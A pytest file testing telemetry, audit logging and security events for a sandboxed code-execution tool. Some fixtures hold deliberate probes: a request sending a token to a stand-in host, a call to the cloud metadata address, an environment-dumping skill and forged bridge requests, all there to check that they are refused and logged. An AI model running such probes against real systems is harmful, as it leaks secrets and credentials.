"""Telemetry (issue 15): spans, metrics and security events of real executions in gVisor,
with the OpenTelemetry SDK's in-memory exporters; OTLP/HTTP to a local receiver decoding the
protobuf; trace context continued from a client's `_meta` and passed on to an HTTP server;
the audit log under concurrent writers; and nothing imported or exported when it is off."""

from __future__ import annotations

import asyncio
import json
import multiprocessing
import os
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import mcp_types as types
import pytest
from click.testing import CliRunner
from mcp import Client
from opentelemetry.sdk.metrics import MeterProvider
from opentelemetry.sdk.metrics.export import InMemoryMetricReader
from opentelemetry.sdk.trace import ReadableSpan, TracerProvider
from opentelemetry.sdk.trace.export import SimpleSpanProcessor
from opentelemetry.sdk.trace.export.in_memory_span_exporter import InMemorySpanExporter

from codegen import telemetry
from codegen.build import build_package
from codegen.cli import main
from codegen.cli.approvals import terminal_hooks
from codegen.package import locate_package
from codegen.render import PackageOptions
from codegen.sandbox import Executor, Limits
from codegen.sandbox.bridge.approval import Answer, ApprovalRequest, parse_approval
from codegen.sandbox.hooks import ExecutionHooks
from codegen.sandbox.policy import parse_sandbox_policy
from codegen.serve.app import ServeSettings, build_server
from codegen.snapshot import Snapshot
from codegen.telemetry.audit import AuditLog
from codegen.telemetry.summary import summarize

from .conftest import write_config
from .servers.otlp import Receiver
from .servers.traced import TracedServer

ROOT = Path(__file__).resolve().parent.parent
DEMO_CONFIG = ROOT / "demo" / "mcp.json"
GOLDEN = ROOT / "generated" / "mcp_demo"
TWO_SERVERS = """
from servers.crm import get_customer
from servers.mail import send_email
customer = await get_customer(customer_id="C00002")
await send_email(to=customer.email, subject="hello", body="a note")
customer.id
"""


class Otel:
    """In-memory exporters, configured as telemetry's sinks for one test."""

    def __init__(self) -> None:
        self.exporter = InMemorySpanExporter()
        tracer = TracerProvider()
        tracer.add_span_processor(SimpleSpanProcessor(self.exporter))
        self.reader = InMemoryMetricReader()
        telemetry.configure(
            tracer_provider=tracer, meter_provider=MeterProvider(metric_readers=[self.reader])
        )

    def spans(self, name: str | None = None) -> list[ReadableSpan]:
        found = self.exporter.get_finished_spans()
        return [s for s in found if name is None or s.name == name or s.name.startswith(name + " ")]

    def points(self, metric: str) -> list[tuple[dict[str, Any], float]]:
        """(attributes, value or count) of every data point of `metric`."""
        data = self.reader.get_metrics_data()
        found: list[tuple[dict[str, Any], float]] = []
        for resource in data.resource_metrics if data else ():
            for scope in resource.scope_metrics:
                for item in scope.metrics:
                    if item.name == metric:
                        for point in item.data.data_points:
                            value = getattr(point, "value", None)
                            found.append((dict(point.attributes), value or point.count))  # type: ignore[union-attr]
        return found

    def total(self, metric: str, **match: str) -> float:
        """The sum of `metric`'s points whose attributes include `match` (dots as `__`)."""
        wanted = {key.replace("__", "."): value for key, value in match.items()}
        return sum(
            value
            for attributes, value in self.points(metric)
            if all(attributes.get(key) == value for key, value in wanted.items())
        )


@pytest.fixture
def otel() -> Iterator[Otel]:
    sinks = Otel()
    yield sinks
    telemetry.reset()


@pytest.fixture(scope="module")
def loop() -> Iterator[asyncio.AbstractEventLoop]:
    event_loop = asyncio.new_event_loop()
    yield event_loop
    event_loop.close()


@pytest.fixture(scope="module")
def executor(
    loop: asyncio.AbstractEventLoop, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Executor]:
    """One warm sandbox over the demo package; the mail server logs to a temporary file."""
    base = tmp_path_factory.mktemp("telemetry")
    old = os.environ.get("MAIL_LOG_PATH")
    os.environ["MAIL_LOG_PATH"] = str(base / "mail.jsonl")
    ex = Executor(GOLDEN, config=DEMO_CONFIG, limits=Limits(timeout=30), skills_dir=base / "skills")
    loop.run_until_complete(ex.start())
    yield ex
    loop.run_until_complete(ex.aclose())
    if old is None:
        os.environ.pop("MAIL_LOG_PATH", None)
    else:
        os.environ["MAIL_LOG_PATH"] = old


def test_an_execution_is_one_span_with_a_child_per_tool_call(
    executor: Executor, loop: asyncio.AbstractEventLoop, otel: Otel
) -> None:
    result = loop.run_until_complete(executor.execute(TWO_SERVERS))
    assert result.ok, result.error
    assert result.cpu_seconds is not None and result.cpu_seconds > 0
    assert result.peak_memory_bytes is not None and result.peak_memory_bytes > 1 << 20

    [execution] = otel.spans("execute_code")
    calls = otel.spans("execute_tool")
    assert len(calls) == 2
    assert {span.parent.span_id for span in calls if span.parent} == {execution.context.span_id}
    assert {span.context.trace_id for span in calls} == {execution.context.trace_id}
    attributes = dict(execution.attributes or {})
    assert attributes["mcp_codegen.execution.outcome"] == "ok"
    assert attributes["mcp_codegen.execution.tool_calls"] == 2
    assert attributes["mcp_codegen.code.bytes"] == len(TWO_SERVERS.encode())
    assert len(str(attributes["mcp_codegen.code.sha256"])) == 64
    assert attributes["mcp_codegen.execution.stdout_bytes"] == 0
    assert attributes["mcp_codegen.execution.cpu_seconds"] == result.cpu_seconds
    assert attributes["mcp_codegen.execution.peak_memory_bytes"] == result.peak_memory_bytes
    assert str(attributes["mcp_codegen.session"]).startswith("x-")

    by_tool = {span.attributes["gen_ai.tool.name"]: span for span in calls if span.attributes}
    get, send = by_tool["get_customer"], by_tool["send_email"]
    assert get.name == "execute_tool get_customer"
    for span, server in ((get, "crm"), (send, "mail")):
        tool_attributes = dict(span.attributes or {})
        assert tool_attributes["gen_ai.operation.name"] == "execute_tool"
        assert tool_attributes["mcp_codegen.server"] == server
        assert tool_attributes["mcp_codegen.tool_call.outcome"] == "ok"
        assert int(tool_attributes["mcp_codegen.tool_call.bytes_in"]) > 20  # type: ignore[arg-type]
        assert int(tool_attributes["mcp_codegen.tool_call.bytes_out"]) > 20  # type: ignore[arg-type]
        assert tool_attributes["mcp_codegen.tool_call.validation_failed"] is False
        assert "error.type" not in tool_attributes
    # The customer's name, email and phone became placeholders; the email went back in clear.
    assert get.attributes and get.attributes["mcp_codegen.pii.placeholders_created"] >= 2
    assert send.attributes and send.attributes["mcp_codegen.pii.placeholders_restored"] == 1

    assert otel.total("mcp_codegen.executions", mcp_codegen__outcome="ok") == 1
    assert otel.total("mcp_codegen.tool_calls", mcp_codegen__server="crm") == 1
    assert otel.total("mcp_codegen.tool_calls", mcp_codegen__server="mail") == 1
    assert otel.total("gen_ai.execute_tool.duration", gen_ai__tool__name="send_email") == 1
    assert otel.total("mcp_codegen.execution.duration") == 1
    assert otel.total("mcp_codegen.execution.cpu_time") == 1


def test_a_limit_hit_is_an_event_and_a_counter(
    executor: Executor, loop: asyncio.AbstractEventLoop, otel: Otel
) -> None:
    result = loop.run_until_complete(executor.execute("while True:\n    pass", timeout=1))
    assert result.limit == "timeout" and result.error and result.error.type == "TimeoutError"
    [execution] = otel.spans("execute_code")
    assert execution.attributes and execution.attributes["mcp_codegen.execution.limit"] == "timeout"
    assert execution.attributes["error.type"] == "TimeoutError"
    events = [dict(e.attributes or {}) for e in execution.events]
    assert {
        "mcp_codegen.security_event.type": "limit_hit",
        "mcp_codegen.limit": "timeout",
    } in events
    assert otel.total("mcp_codegen.limit_hits", mcp_codegen__limit="timeout") == 1
    assert otel.total("mcp_codegen.security_events", mcp_codegen__reason="timeout") == 1
    # A program's own TimeoutError is an error, not a limit.
    raised = loop.run_until_complete(executor.execute("raise TimeoutError('mine')"))
    assert raised.error and raised.error.type == "TimeoutError" and raised.limit is None
    assert otel.total("mcp_codegen.limit_hits") == 1


_RAW = """
import json, os, socket
bridge = socket.socket(socket.AF_UNIX)
bridge.connect(os.environ["MCP_CODEGEN_BRIDGE_SOCKET"])
bridge.sendall(json.dumps({"token": os.environ["MCP_CODEGEN_BRIDGE_TOKEN"]}).encode() + b"\\n")
replies = bridge.makefile("rb")
def ask(data):
    bridge.sendall(data)
    return json.loads(replies.readline())
answers = [
    ask(b'{"id": 1, "server": "time", "tool": "delete_everything", "arguments": {}}\\n'),
    ask(b'{"id": 2, "server": "time", "tool": "get_current_time", "arguments": {"timezone": 5}}\\n'),
    ask(b'{"id": 3, "server": "time", "tool": "x"' + b" " * 1_100_000 + b"}\\n"),
    ask(b"not json\\n"),
]
[a.get("error", "")[:40] for a in answers]
"""


def test_refused_bridge_requests_are_events_and_counters(
    executor: Executor, loop: asyncio.AbstractEventLoop, otel: Otel
) -> None:
    result = loop.run_until_complete(executor.execute(_RAW))
    assert result.ok, result.error
    assert all(result.value), result.value
    calls = otel.spans("execute_tool")
    assert len(calls) == 4
    reasons = {
        dict(call.attributes or {}).get("error.type"): dict(call.events[0].attributes or {})
        for call in calls
    }
    assert set(reasons) == {"unknown_tool", "invalid_arguments", "oversized", "not_json"}
    for reason, event in reasons.items():
        assert event["mcp_codegen.security_event.type"] == "bridge_rejected"
        assert event["mcp_codegen.reason"] == reason
        assert otel.total("mcp_codegen.bridge.rejections", mcp_codegen__reason=reason) == 1
    invalid = next(
        c for c in calls if (c.attributes or {}).get("error.type") == "invalid_arguments"
    )
    assert invalid.attributes and invalid.attributes["mcp_codegen.tool_call.validation_failed"]
    # A refused call names its target only when it is a real one.
    assert invalid.attributes["gen_ai.tool.name"] == "get_current_time"
    unknown = next(c for c in calls if (c.attributes or {}).get("error.type") == "unknown_tool")
    assert "gen_ai.tool.name" not in (unknown.attributes or {})
    assert (
        otel.total(
            "mcp_codegen.security_events", mcp_codegen__security_event__type="bridge_rejected"
        )
        == 4
    )


def test_a_bad_bridge_token_is_an_event_and_a_counter(
    executor: Executor, loop: asyncio.AbstractEventLoop, otel: Otel
) -> None:
    code = """
import json, os, socket
bridge = socket.socket(socket.AF_UNIX)
bridge.connect(os.environ["MCP_CODEGEN_BRIDGE_SOCKET"])
bridge.sendall(b'{"token": "guessed"}\\n')
json.loads(bridge.makefile("rb").readline())["error"]
"""
    result = loop.run_until_complete(executor.execute(code))
    assert result.value == "the bridge token is unknown or expired"
    [alone] = otel.spans("security_event bad_token")
    assert alone.events[0].attributes == {"mcp_codegen.security_event.type": "bad_token"}
    kind = "mcp_codegen__security_event__type"
    assert otel.total("mcp_codegen.security_events", **{kind: "bad_token"}) == 1


def test_a_rejected_skill_is_an_event_and_a_counter(
    executor: Executor, loop: asyncio.AbstractEventLoop, otel: Otel
) -> None:
    code = '''
import os
def environment() -> dict:
    """Everything the sandbox's environment holds."""
    return dict(os.environ)
try:
    save_skill(environment)
except Exception as exc:
    problem = str(exc)
problem
'''
    result = loop.run_until_complete(executor.execute(code))
    assert "was not saved" in str(result.value), result
    [call] = otel.spans("execute_tool")
    events = [dict(e.attributes or {}) for e in call.events]
    assert {
        "mcp_codegen.security_event.type": "skill_rejected",
        "mcp_codegen.reason": "checker",
    } in events
    assert otel.total("mcp_codegen.security_events", mcp_codegen__reason="checker") == 1


# --- the sandbox policy's refusals: egress and the check before code runs ------------------


@pytest.fixture(scope="module")
def policed(loop: asyncio.AbstractEventLoop) -> Iterator[Executor]:
    """A sandbox with a network policy (one host it may reach) whose code is checked first."""
    policy = parse_sandbox_policy(
        {"network": {"allow": ["allowed.test:443"]}, "check_code": "block"}
    )
    ex = Executor(GOLDEN, policy=policy, skills_dir=False)
    loop.run_until_complete(ex.start())
    yield ex
    loop.run_until_complete(ex.aclose())


def _audit(path: Path, event: str) -> list[dict[str, Any]]:
    lines = [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]
    return [line for line in lines if line["event"] == event]


_EGRESS = """
import socket, urllib.error, urllib.request
refused = []
for url in ("https://secret-holder.example/x?token=abc", "https://169.254.169.254/"):
    try:
        urllib.request.urlopen(url, timeout=20)
    except urllib.error.URLError as exc:
        refused.append(str(exc.reason))
try:
    socket.create_connection(("192.0.2.1", 443), timeout=5)
except OSError:
    pass
refused
"""


def test_a_refused_egress_connection_is_an_event_and_an_audit_line(
    policed: Executor, loop: asyncio.AbstractEventLoop, otel: Otel, tmp_path: Path
) -> None:
    audit = tmp_path / "audit.jsonl"
    telemetry.configure(audit=audit)
    result = loop.run_until_complete(policed.execute(_EGRESS, timeout=60))
    assert result.error is None, result.error
    assert len(result.value) == 2 and all("403" in text for text in result.value), result.value
    assert [(c.kind, c.allowed) for c in result.connections] == [
        ("https", False),
        ("https", False),
        ("direct", False),
    ]

    [execution] = otel.spans("execute_code")
    events = [dict(e.attributes or {}) for e in execution.events]
    egress = [e for e in events if e["mcp_codegen.security_event.type"] == "egress_refused"]
    assert {
        "mcp_codegen.security_event.type": "egress_refused",
        "mcp_codegen.reason": "host_not_listed",
        "mcp_codegen.scheme": "https",
        "mcp_codegen.port": 443,
    } in egress
    assert {e["mcp_codegen.reason"] for e in egress} == {
        "host_not_listed",
        "address_not_listed",
        "direct",
    }
    kind = "mcp_codegen__security_event__type"
    assert otel.total("mcp_codegen.security_events", **{kind: "egress_refused"}) == 3
    assert otel.total("mcp_codegen.security_events", mcp_codegen__reason="address_not_listed") == 1

    lines = _audit(audit, "security")
    assert sorted(line["reason"] for line in lines) == [
        "address_not_listed",
        "direct",
        "host_not_listed",
    ]
    [ran] = _audit(audit, "execution")
    assert {line["execution"] for line in lines} == {ran["execution"]}
    assert {line["session"] for line in lines} == {ran["session"]}
    # The host the code asked for is a value it chose: never in the audit log.
    assert "secret-holder" not in audit.read_text(encoding="utf-8")


def test_code_the_check_refuses_is_an_event_and_an_audit_line(
    policed: Executor, loop: asyncio.AbstractEventLoop, otel: Otel, tmp_path: Path
) -> None:
    audit = tmp_path / "audit.jsonl"
    telemetry.configure(audit=audit)
    wrong = "from servers.time import get_current_time\nawait get_current_time(timezon='UTC')"
    checked = loop.run_until_complete(policed.execute(wrong))
    assert checked.error is not None and checked.error.type == "CheckError"
    broken = loop.run_until_complete(policed.execute("secret = 'abc'\nif secret\n"))
    assert broken.error is not None and broken.error.type == "SyntaxError"

    first, second = otel.spans("execute_code")
    [refused] = [dict(e.attributes or {}) for e in first.events]
    assert refused["mcp_codegen.security_event.type"] == "code_refused"
    assert refused["mcp_codegen.reason"] == "check"
    assert "unknown-argument" in str(refused["mcp_codegen.rules"]).split(",")
    assert refused["mcp_codegen.errors"] == len(checked.diagnostics)
    [syntax] = [dict(e.attributes or {}) for e in second.events]
    assert syntax == {
        "mcp_codegen.security_event.type": "code_refused",
        "mcp_codegen.reason": "syntax",
    }
    assert otel.total("mcp_codegen.security_events", mcp_codegen__reason="check") == 1
    assert otel.total("mcp_codegen.security_events", mcp_codegen__reason="syntax") == 1

    lines = _audit(audit, "security")
    assert [(line["type"], line["reason"]) for line in lines] == [
        ("code_refused", "check"),
        ("code_refused", "syntax"),
    ]
    assert all(line["execution"] for line in lines)
    text = audit.read_text(encoding="utf-8")
    assert "timezon" not in text and "secret" not in text  # never the code


def test_serve_refuses_a_syntax_error_before_any_sandbox_and_reports_it(
    tmp_path: Path,
) -> None:
    audit = tmp_path / "audit.jsonl"
    telemetry.configure(audit=audit)
    settings = ServeSettings(
        package=locate_package(GOLDEN),
        config=DEMO_CONFIG,
        skills_dir=tmp_path / "skills",
        preconnect=False,
    )

    async def scenario() -> types.CallToolResult:
        async with Client(build_server(settings)) as client:
            return await client.call_tool("execute_code", {"code": "x = (1,\n"})

    try:
        answer = asyncio.run(scenario())
    finally:
        telemetry.reset()
    assert answer.is_error
    [line] = _audit(audit, "security")
    assert (line["type"], line["reason"], line["session"]) == ("code_refused", "syntax", "stdio")
    assert line["execution"] is None and _audit(audit, "execution") == []  # nothing ran


# --- approvals (issue 17): each decision on its call's audit line, log line and span ----------

_SEND = """
from servers.crm import resources
from servers.mail import send_email
await resources.customer(customer_id="C00002")
try:
    await send_email(to="ada@example.org", subject="hello", body="a note")
    outcome = "sent"
except ApprovalDenied:
    outcome = "denied"
outcome
"""


def test_each_approval_decision_is_on_the_calls_audit_line_and_span(
    loop: asyncio.AbstractEventLoop, otel: Otel, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("MAIL_LOG_PATH", str(tmp_path / "mail.jsonl"))
    audit = tmp_path / "audit.jsonl"
    telemetry.configure(audit=audit)
    policy = parse_approval({"servers": {"mail": {"tools": {"send_email": "always"}}}})
    ex = Executor(GOLDEN, config=DEMO_CONFIG, skills_dir=False, approval=policy)

    def person(answer: bool) -> ExecutionHooks:
        async def ask(request: ApprovalRequest) -> Answer:
            return Answer(answer, "person", "said so")

        return ExecutionHooks(ask=ask)

    async def scenario() -> list[Any]:
        await ex.start()
        try:
            values = []
            for hooks in (
                person(True),
                person(False),
                terminal_hooks(approve_all=True),
                None,  # the Python API without hooks: nobody to ask
            ):
                result = await ex.execute(_SEND, hooks=hooks)
                assert result.ok, result.error
                values.append(result.value)
            return values
        finally:
            await ex.aclose()

    values = loop.run_until_complete(scenario())
    assert [value.strip("'") for value in values] == ["sent", "denied", "sent", "denied"]
    calls = _audit(audit, "tool_call")
    sends = [line for line in calls if line.get("tool") == "send_email"]
    assert [
        (line["outcome"], line["approval"], line["approval_by"], line.get("error_type"))
        for line in sends
    ] == [
        ("ok", "approved", "person", None),
        ("denied", "denied", "person", "approval_denied"),
        ("ok", "approved", "approve-all", None),
        ("denied", "denied", "unattended", "approval_denied"),
    ]
    # A call that needed no approval says nothing of it; a resource read is named by its
    # server and kind, never by its uri (the code's own text).
    reads = [line for line in calls if line.get("kind") == "resource"]
    assert len(reads) == 4 and all(
        line["server"] == "crm" and "tool" not in line and "approval" not in line for line in reads
    )
    assert "C00002" not in audit.read_text(encoding="utf-8")
    spans = [dict(span.attributes or {}) for span in otel.spans("execute_tool send_email")]
    assert [
        (span["mcp_codegen.approval.decision"], span["mcp_codegen.approval.by"]) for span in spans
    ] == [
        ("approved", "person"),
        ("denied", "person"),
        ("approved", "approve-all"),
        ("denied", "unattended"),
    ]
    assert otel.total("mcp_codegen.tool_calls", mcp_codegen__outcome="denied") == 2
    summary = summarize(audit).as_json()
    assert summary["approvals"] == {
        "approved": {"count": 2, "by": {"person": 1, "approve-all": 1}},
        "denied": {"count": 2, "by": {"person": 1, "unattended": 1}},
    }
    printed = CliRunner().invoke(main, ["audit", str(audit)])
    assert "approvals: approved 2 (person 1, approve-all 1), denied 2 (person 1, unattended 1)" in (
        printed.output
    )


# --- serve: trace context from a client's _meta, and on to an HTTP server ------------------


@pytest.fixture(scope="module")
def traced_package(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Path, Path]]:
    """(config, package) of the demo's time server and an HTTP server reporting trace context."""
    server = TracedServer()
    base = tmp_path_factory.mktemp("traced")
    time_server = ROOT / ".demo" / "venvs" / "time" / "bin" / "mcp-server-time"
    config = write_config(
        base / "mcp.json",
        {"traced": {"url": server.url}, "time": {"command": str(time_server), "args": []}},
    )
    build_package(options=PackageOptions(name="traced_pkg"), out=base / "pkg", config_path=config)
    yield config, base / "pkg"
    server.stop()


def test_serve_continues_the_clients_traceparent_and_passes_it_on(
    traced_package: tuple[Path, Path], otel: Otel, tmp_path: Path
) -> None:
    config, package = traced_package
    settings = ServeSettings(
        package=locate_package(package), config=config, skills_dir=tmp_path / "skills"
    )
    trace_id, parent_id = "4bf92f3577b34da6a3ce929d0e0e4736", "00f067aa0ba902b7"
    meta = {"traceparent": f"00-{trace_id}-{parent_id}-01"}
    code = "from servers.traced import traceparent\n(await traceparent()).result"

    async def scenario() -> tuple[str, str, str]:
        async with Client(build_server(settings)) as client:
            found = await client.call_tool("search_tools", {"query": "time"}, meta=meta)
            module = await client.call_tool("read_module", {"path": "servers.time"}, meta=meta)
            ran = await client.call_tool("execute_code", {"code": code}, meta=meta)
        texts = []
        for answer in (found, module, ran):
            assert not answer.is_error, answer
            block = answer.content[0]
            assert isinstance(block, types.TextContent)
            texts.append(block.text)
        return texts[0], texts[1], texts[2]

    _, _, output = asyncio.run(scenario())
    [execution] = otel.spans("execute_code")
    [call] = otel.spans("execute_tool")
    assert f"{execution.context.trace_id:032x}" == trace_id
    assert execution.parent is not None and f"{execution.parent.span_id:016x}" == parent_id
    assert execution.attributes and execution.attributes["mcp_codegen.session"] == "stdio"
    assert call.parent is not None and call.parent.span_id == execution.context.span_id
    # The HTTP server got the same trace, its parent the tool call's span (the SDK's client
    # span beneath it records nothing here, so it passes the tool call's context on).
    received = next(word for word in output.split("'") if word.startswith("00-"))
    assert received == f"00-{trace_id}-{call.context.span_id:016x}-01"
    for name in ("search_tools", "read_module"):
        [span] = otel.spans(name)
        assert f"{span.context.trace_id:032x}" == trace_id
    assert otel.total("mcp.server.operation.duration", gen_ai__tool__name="search_tools") == 1
    assert otel.total("mcp.server.operation.duration", gen_ai__tool__name="execute_code") == 1


def test_build_stages_are_spans(otel: Otel, tmp_path: Path) -> None:
    snapshot = Snapshot.read(GOLDEN / "mcp-snapshot.json")
    build_package(options=PackageOptions(name="staged"), out=tmp_path / "pkg", snapshot=snapshot)
    [build] = [span for span in otel.spans() if span.name == "build"]
    stages = {span.name: span for span in otel.spans() if span.name.startswith("build ")}
    assert set(stages) == {"build render", "build write"}
    assert all(s.parent and s.parent.span_id == build.context.span_id for s in stages.values())
    assert build.attributes and build.attributes["mcp_codegen.build.package"] == "staged"
    assert otel.total("mcp_codegen.operation.duration", mcp_codegen__operation="build write") == 1


# --- OTLP over HTTP, and nothing when no OTEL_* variable is set ------------------------------


def _exec(code: str, env: dict[str, str], *extra: str) -> subprocess.CompletedProcess[str]:
    clean = {k: v for k, v in os.environ.items() if not k.startswith("OTEL_")}
    command = [sys.executable, "-m", "codegen", "exec", "-c", code, "--config", str(DEMO_CONFIG)]
    command += ["--package", str(GOLDEN), *extra]
    return subprocess.run(
        command, capture_output=True, text=True, env=clean | env, cwd=ROOT, timeout=180
    )


def test_otlp_http_export_to_a_local_receiver(tmp_path: Path) -> None:
    receiver = Receiver()
    try:
        env = {
            "OTEL_EXPORTER_OTLP_ENDPOINT": receiver.endpoint,
            "OTEL_SERVICE_NAME": "codegen-test",
            "MAIL_LOG_PATH": str(tmp_path / "mail.jsonl"),
        }
        done = _exec(TWO_SERVERS, env)
        assert done.returncode == 0, done.stderr
    finally:
        receiver.stop()
    [execution] = [s for s in receiver.spans if s.name == "execute_code"]
    calls = [s for s in receiver.spans if s.name.startswith("execute_tool ")]
    assert sorted(s.name for s in calls) == ["execute_tool get_customer", "execute_tool send_email"]
    assert {s.parent_id for s in calls} == {execution.span_id}
    assert execution.attributes["mcp_codegen.origin"] == "run"
    assert execution.attributes["mcp_codegen.execution.tool_calls"] == 2
    assert execution.resource["service.name"] == "codegen-test"
    # The mcp SDK's own client spans (global provider) sit under the tool calls.
    sends = [s for s in receiver.spans if s.name.startswith("MCP send tools/call")]
    assert {s.parent_id for s in sends} == {s.span_id for s in calls}
    executions = receiver.metrics["mcp_codegen.executions"]
    assert (
        sum(value for attributes, value in executions if attributes["mcp_codegen.outcome"] == "ok")
        == 1
    )
    assert sum(value for _, value in receiver.metrics["gen_ai.execute_tool.duration"]) == 2


def test_without_otel_variables_nothing_is_exported_or_imported(tmp_path: Path) -> None:
    receiver = Receiver()
    try:
        done = _exec("1 + 1", {"MAIL_LOG_PATH": str(tmp_path / "mail.jsonl")})
        assert done.returncode == 0 and done.stdout.strip() == "2", done.stderr
    finally:
        receiver.stop()
    assert receiver.requests == 0
    # In one process: the CLI and an execution, then what got imported.
    probe = f"""
import sys
from codegen.cli import main
try:
    main(["exec", "-c", "1", "--config", {str(DEMO_CONFIG)!r}, "--package", {str(GOLDEN)!r}])
except SystemExit:
    pass
print(sorted(m for m in sys.modules if m.startswith(("opentelemetry", "google.protobuf"))))
"""
    clean = {k: v for k, v in os.environ.items() if not k.startswith("OTEL_")}
    out = subprocess.run(
        [sys.executable, "-c", probe],
        capture_output=True,
        text=True,
        env=clean,
        cwd=ROOT,
        timeout=180,
    )
    assert out.returncode == 0, out.stderr
    assert out.stdout.strip().splitlines()[-1] == "[]"


# --- the audit log ------------------------------------------------------------------------------


def _append(path: str, writer: int, count: int) -> None:
    log = AuditLog(path, max_bytes=4096, backups=200)
    for index in range(count):
        log.write({"event": "tool_call", "writer": writer, "index": index, "pad": "x" * 60})
    log.close()


def test_audit_log_rotates_without_losing_lines_across_processes(tmp_path: Path) -> None:
    path = str(tmp_path / "audit.jsonl")
    context = multiprocessing.get_context("fork")
    workers = [context.Process(target=_append, args=(path, w, 400)) for w in range(4)]
    for worker in workers:
        worker.start()
    for worker in workers:
        worker.join(60)
        assert worker.exitcode == 0
    files = sorted(tmp_path.glob("audit.jsonl*"))
    files = [f for f in files if not f.name.endswith(".lock")]
    assert len(files) > 20  # rotated many times, at 4 kB
    records = [
        json.loads(line) for f in files for line in f.read_text(encoding="utf-8").splitlines()
    ]
    assert len(records) == 1600
    assert {(r["writer"], r["index"]) for r in records} == {
        (w, i) for w in range(4) for i in range(400)
    }
    # Each file is rotated near its size: a writer adds at most a line after another rotated.
    assert max(f.stat().st_size for f in files) < 4096 + 2 * 4 * 120, [
        f.stat().st_size for f in files
    ]
    assert oct(os.stat(path).st_mode & 0o777) == "0o600"


def test_audit_summary(tmp_path: Path) -> None:
    path = tmp_path / "audit.jsonl"
    log = AuditLog(path)
    for index in range(1, 21):
        outcome = "ok" if index <= 18 else "limit"
        log.write(
            {
                "time": f"2026-11-30T10:00:{index:02d}.000Z",
                "event": "execution",
                "session": f"s-{index % 2}",
            }
            | {"outcome": outcome, "duration_ms": float(index), "cpu_seconds": 0.01 * index}
            | ({"error_type": "TimeoutError", "limit": "timeout"} if outcome == "limit" else {})
        )
        log.write(
            {
                "time": "2026-11-30T10:00:00Z",
                "event": "tool_call",
                "server": "crm",
                "tool": "get_customer",
                "outcome": "ok",
                "duration_ms": 2.0,
            }
        )
    log.write(
        {
            "time": "2026-11-30T10:01:00Z",
            "event": "tool_call",
            "outcome": "rejected",
            "error_type": "unknown_tool",
        }
    )
    log.write(
        {
            "time": "2026-11-30T10:01:00Z",
            "event": "security",
            "type": "bridge_rejected",
            "reason": "unknown_tool",
        }
    )
    log.write({"time": "2026-11-30T10:01:01Z", "event": "security", "type": "bad_token"})
    log.close()
    summary = summarize(path).as_json()
    assert summary["executions"] == 20 and summary["sessions"] == 2
    assert summary["executions_by_outcome"] == {"ok": 18, "limit": 2}
    assert summary["duration_ms"] == {"p50": 10.0, "p95": 19.0}
    assert summary["top_tools"][0] | {} == {
        "tool": "crm.get_customer",
        "calls": 20,
        "errors": 0,
        "duration_ms_p50": 2.0,
        "duration_ms_p95": 2.0,
    }
    assert summary["errors_by_type"] == {"TimeoutError": 2, "unknown_tool": 1}
    assert summary["security_events_by_type"] == {
        "bridge_rejected": {"count": 1, "by_reason": {"unknown_tool": 1}},
        "bad_token": {"count": 1, "by_reason": {}},
    }
    printed = CliRunner().invoke(main, ["audit", str(path)])
    assert printed.exit_code == 0, printed.output
    assert "executions: 20 (ok 18, limit 2) in 2 sessions" in printed.output
    assert "duration: p50 10.0 ms, p95 19.0 ms" in printed.output
    assert "bridge_rejected: 1 (unknown_tool 1)" in printed.output
    later = CliRunner().invoke(main, ["audit", str(path), "--since", "2026-11-30T10:01", "--json"])
    assert json.loads(later.output)["executions"] == 0
    missing = CliRunner().invoke(main, ["audit", str(tmp_path / "nope.jsonl")])
    assert missing.exit_code == 2 and "no such file" in missing.output
